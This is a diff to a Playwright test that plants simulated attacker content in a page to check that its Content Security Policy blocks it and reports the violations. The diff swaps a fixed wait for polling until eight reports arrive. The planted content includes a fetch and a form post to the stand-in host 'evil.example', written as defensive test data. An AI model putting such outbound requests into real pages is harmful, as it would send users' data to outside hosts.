@@ -73,9 +73,12 @@ test('source maps name files of the repository only', () => {
   expect(sources.filter((source) => source.startsWith('/') || source.includes(root))).toEqual([]);
 });
 
+/** One for each thing that is planted. */
+const expectedViolations = 8;
+
 /** What an attacker would put into a page; says what ran, and what the policy stopped. */
 async function plant(page: Page): Promise<{ ran: string[]; directives: string[] }> {
-  return page.evaluate(async () => {
+  return page.evaluate(async (expected) => {
     const ran: string[] = [];
     const directives: string[] = [];
     Object.assign(globalThis, { planted: (what: string) => ran.push(what) });
@@ -100,7 +103,10 @@ async function plant(page: Page): Promise<{ ran: string[]; directives: string[] 
     await fetch('https://evil.example/').catch(() => null);
     const form = add('form', { action: 'https://evil.example/', method: 'post' });
     if (form instanceof HTMLFormElement) form.submit();
-    await new Promise((resolve) => setTimeout(resolve, 500));
+    // The browser says what it stopped when it has the time; the limit is for one that stops nothing.
+    const endMs = performance.now() + 20_000;
+    while (directives.length < expected && performance.now() < endMs)
+      await new Promise((resolve) => setTimeout(resolve, 50));
     return { ran, directives };
-  });
+  }, expectedViolations);
 }
